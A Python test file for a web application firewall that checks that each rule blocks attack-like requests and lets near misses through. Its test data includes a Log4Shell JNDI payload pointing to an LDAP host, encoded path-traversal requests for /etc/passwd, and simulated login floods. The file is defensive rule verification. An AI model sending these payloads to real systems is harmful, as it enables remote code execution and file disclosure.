"""Every rule stops what it claims to stop, and not what comes close to it."""

import msgspec
import pytest

from security.waf import limits
from security.waf.evaluating import Firewall, Verdict
from security.waf.model import Group, Rule
from security.waf.requests import Request
from security.waf.rules import rules
from tests.security.waf.samples import BEARER, EDGE, HOST, PARAMETERS, SIGNED, push, request, searched

LOGIN = b'{"email": "a@contoh.invalid", "password": "satu-dua-tiga"}'
REPUTATION = "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList"
XSS = "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments"
JNDI = "${jndi:ldap://203.0.113.9/a}"
COMMON, BAD = "AWSManagedRulesCommonRuleSet", "AWSManagedRulesKnownBadInputsRuleSet"


class Case(msgspec.Struct, frozen=True):
    """``rule`` claims the last of ``attack`` and leaves ``near`` alone; managed groups saw ``found`` in both."""

    rule: str
    attack: list[Request]
    near: list[Request]
    found: tuple[str, ...] = ()


def times(count: int, method: str, path: str, seconds: float = 200.0, **details) -> list[Request]:
    """The same request again and again within ``seconds``."""
    return [request(method, path, at=place * seconds / count, **details) for place in range(count)]


def host(name: str) -> Request:
    return request(headers={"host": name})


def sized(size: str) -> Request:
    return request("POST", "/v1/vacancies", body=b"{}", headers={**BEARER, "content-length": size})


def agent(name: str) -> Request:
    return request(headers={"user-agent": name})


CASES = [
    Case("unknown-host", [host("198.51.100.20")], [host("API.Padan.Example:443")]),
    Case("unknown-host", [host("api.padan.example.evil.example")], [host("api-home.padan.example")]),
    Case("unknown-host", [host("apixpadan.example")], [host(HOST)]),
    Case("mark-partner", [request(path="/v1/%70artner/receipts/a")], [request(path="/v1/partners")]),
    Case("mark-sign-in", [request("POST", "//v1/sessions/")], [request("POST", "/v1/sessions/current")]),
    Case("mark-codes", [request("POST", "/v1/sessions/codes")], [request("GET", "/v1/sessions/codes")]),
    Case("mark-codes", [request("POST", "/v1/people/me/verifications")], [request("POST", "/v1/people/me/documents")]),
    Case("mark-registration", [request("POST", "/v1/people")], [request("POST", "/v1/people/me/verifications")]),
    Case("mark-edge", [request(headers=EDGE)], [request(headers={"x-padan-edge": "q7Yd0C"}), request()]),
    Case("wrong-method", [request("TRACE", "/v1/vacancies")], [request("HEAD", "/docs")]),
    Case("large-body", [sized(str(limits.LARGEST_BODY + 1))], [sized(str(limits.LARGEST_BODY))]),
    Case("large-body", [sized("99999999999")], [sized("0005242880")]),
    Case(
        "large-credentials",
        [request("POST", "/v1/sessions", body=LOGIN + b" " * limits.LARGEST_CREDENTIALS)],
        [request("POST", "/v1/sessions", body=LOGIN.ljust(limits.LARGEST_CREDENTIALS))],
    ),
    Case(
        "large-credentials",
        [request("POST", "/v1/sessions/codes", body=b"{" + b" " * limits.LARGEST_CREDENTIALS)],
        [request("POST", "/v1/vacancies", body=b"{" + b" " * limits.LARGEST_CREDENTIALS)],
    ),
    Case(
        "long-query",
        [request(query="q=" + "a" * (limits.LONGEST_URL - 1))],
        [request(query="q=" + "a" * (limits.LONGEST_URL - 2))],
    ),
    Case(
        "long-path",
        [request(path="/".ljust(limits.LONGEST_PATH + 1, "a"))],
        [request(path="/".ljust(limits.LONGEST_PATH, "a"))],
    ),
    Case(
        "long-header",
        [request(headers={"authorization": "Bearer " + "a" * 8_193})],
        [request(headers={"authorization": "Bearer " + "a" * 8_192})],
    ),
    Case("long-header", [push(headers={"signature": "s" * 4_097})], [push(headers={"signature": "s" * 4_096})]),
    Case(
        "long-header",
        [push(headers={"signature-input": "s" * 4_097})],
        [push(headers={"signature-input": "s" * 4_096})],
    ),
    Case("path-traversal", [request(path="/v1/%2e%2e/%2e%2e/etc/passwd")], [request(path="/v1/employers/toko..maju")]),
    Case("path-traversal", [request(path="/v1/partner/..%2fsessions")], [request(path="/docs...")]),
    Case("unsigned-partner", [push(headers={"signature": ""})], [push()]),
    Case("unsigned-partner", [request("POST", "/v1/partner/vacancies", body=b"[]")], [request(path="/v1/vacancies")]),
    Case(
        "partner-type",
        [push(headers={"content-type": "application/xml"})],
        [request(path="/v1/partner/receipts/r", headers={**SIGNED, "content-type": "text/plain"})],
    ),
    Case("partner-type", [push(headers={"content-type": "text/x-application/json"})], [push()]),
    Case("abroad", [request(country="US")], [request(country="MY"), request(country="US", headers=EDGE)]),
    Case("abroad", [request(country="KP")], [push(country="US"), request(path="/v1/health", country="US")]),
    Case(
        "often-sign-in",
        times(151, "POST", "/v1/sessions", body=LOGIN),
        times(150, "POST", "/v1/sessions", body=LOGIN),
    ),
    Case(
        "often-sign-in",
        times(151, "POST", "/v1/sessions/refresh", body=b"{}"),
        times(300, "POST", "/v1/sessions", seconds=700, body=LOGIN),
    ),
    Case(
        "often-codes",
        [*times(25, "POST", "/v1/sessions/codes"), *times(26, "POST", "/v1/people/me/verifications")],
        times(50, "POST", "/v1/sessions/codes"),
    ),
    Case("often-registration", times(51, "POST", "/v1/people"), times(51, "GET", "/v1/employers")),
    Case(
        "often-partner",
        times(4_001, "DELETE", "/v1/partner/vacancies/a", headers=SIGNED),
        times(4_000, "DELETE", "/v1/partner/vacancies/a", headers=SIGNED),
    ),
    Case("often-address", times(3_001, "GET", "/v1/vacancies"), times(3_000, "GET", "/v1/vacancies")),
    Case(
        "often-address",
        times(3_001, "GET", "/v1/vacancies", headers={"x-padan-edge": "guessed", "x-forwarded-for": "192.0.2.1"}),
        times(3_500, "GET", "/v1/vacancies", headers=EDGE),
    ),
    Case(
        "often-sign-in",
        times(151, "POST", "/v1/sessions", body=LOGIN),
        times(600, "POST", "/v1/sessions", headers=EDGE, body=LOGIN),
    ),
    Case(
        "often-token",
        [
            msgspec.structs.replace(call, address=f"198.51.100.{place % 250}")
            for place, call in enumerate(times(1_501, "GET", "/v1/people/me", headers=BEARER))
        ],
        [
            msgspec.structs.replace(call, headers={**call.headers, "authorization": f"Bearer {place % 2}"})
            for place, call in enumerate(times(3_000, "GET", "/v1/people/me"))
        ],
    ),
    Case(
        "attack-in-body",
        [request("POST", "/v1/vacancies", body=JNDI.encode(), headers=BEARER)],
        [push()],
    ),
    Case("bad-reputation", [request("POST", "/v1/sessions", body=LOGIN)], [searched("kasir")], (REPUTATION,)),
    Case("often-suspicious", times(26, "GET", "/v1/vacancies"), times(25, "GET", "/v1/vacancies"), (XSS,)),
    Case(f"{COMMON}/NoUserAgent_HEADER", [agent("")], [agent("curl/8.5.0")]),
    Case(f"{COMMON}/UserAgent_BadBots_HEADER", [agent("Nmap Scripting Engine")], [agent("Maps/3")]),
    Case(f"{COMMON}/SizeRestrictions_QUERYSTRING", [request(query="q" * 2_049)], [request(query="q" * 2_048)]),
    Case(
        f"{COMMON}/SizeRestrictions_Cookie_HEADER",
        [request(headers={"cookie": "c" * 10_241})],
        [request(headers={"cookie": "c" * 10_240})],
    ),
    Case(
        f"{COMMON}/SizeRestrictions_BODY",
        [request("POST", "/v1/vacancies", body=b"b" * 8_193)],
        [request("POST", "/v1/vacancies", body=b"b" * 8_192)],
    ),
    Case(
        f"{COMMON}/SizeRestrictions_URIPATH",
        [request(path="/".ljust(1_025, "p"))],
        [request(path="/".ljust(1_024, "p"))],
    ),
    Case(f"{BAD}/Log4JRCE_HEADER", [agent(JNDI)], [agent("jndi:ldap")]),
    Case(f"{BAD}/Log4JRCE_QUERYSTRING", [request(query=f"q={JNDI}")], [searched("admin ldap dan jndi")]),
    Case(f"{BAD}/Log4JRCE_BODY", [push()], [request("POST", "/v1/vacancies", body=b"{}", headers=BEARER)]),
]


def names(case: Case) -> str:
    return f"{case.rule}-{CASES.index(case)}"


def verdicts(calls: list[Request], found: tuple[str, ...]) -> list[Verdict]:
    firewall = Firewall(rules(PARAMETERS))
    return [firewall.judge(call, found) for call in calls]


def claims(verdict: Verdict, rule: str) -> bool:
    return rule == verdict.by or rule in verdict.counted


@pytest.mark.parametrize("case", CASES, ids=names)
def test_the_rule_claims_the_attack(case):
    *before, last = verdicts(case.attack, case.found)
    assert claims(last, case.rule), last
    # A limit lets through what is below it; any other rule claims each request for itself.
    assert not any(claims(verdict, case.rule) for verdict in before)


@pytest.mark.parametrize("case", CASES, ids=names)
def test_the_rule_leaves_alone_what_comes_close(case):
    assert case.near
    for verdict in verdicts(case.near, case.found):
        assert not claims(verdict, case.rule)
        assert verdict.passes, verdict


def test_every_rule_has_a_case():
    expected = set()
    for entry in rules(PARAMETERS):
        if isinstance(entry, Rule):
            expected.add(entry.name)
        else:
            expected |= {f"{entry.name}/{published.rule}" for published in entry.published}
    assert {case.rule for case in CASES} == expected


def test_what_only_counts_never_refuses():
    refusing = {entry.name for entry in rules(PARAMETERS) if isinstance(entry, Rule) and entry.refusal}
    overridden = {
        f"{group.name}/{override.rule}"
        for group in rules(PARAMETERS)
        if isinstance(group, Group)
        for override in group.counted
    }
    for case in CASES:
        last = verdicts(case.attack, case.found)[-1]
        if case.rule in overridden or case.rule.startswith("mark-"):
            assert case.rule in last.counted
        else:
            assert last.by == case.rule
            assert case.rule in refusing or "/" in case.rule


def test_a_flood_ends_and_the_caller_may_come_back():
    firewall = Firewall(rules(PARAMETERS))
    flood = times(3_500, "GET", "/v1/vacancies", seconds=100)
    assert [firewall.judge(call).by for call in flood].count("often-address") == 500
    assert firewall.judge(request(at=150)).by == "often-address"
    assert firewall.judge(request(at=150, address="198.51.100.8")).passes
    assert firewall.judge(request(at=501)).passes


def test_a_flood_of_pushes_leaves_the_public_path_alone():
    firewall = Firewall(rules(PARAMETERS))
    flood = times(4_500, "DELETE", "/v1/partner/vacancies/a", headers=SIGNED)
    assert firewall.judge(request()).passes
    assert [firewall.judge(call).by for call in flood][-1] == "often-partner"
    assert firewall.judge(request(at=200)).passes


def test_stuffing_from_many_addresses_is_left_to_the_limits_by_account():
    firewall = Firewall(rules(PARAMETERS))
    calls = times(500, "POST", "/v1/sessions", body=LOGIN)
    spread = [msgspec.structs.replace(call, address=f"198.51.100.{place % 200}") for place, call in enumerate(calls)]
    assert all(firewall.judge(call).passes for call in spread)
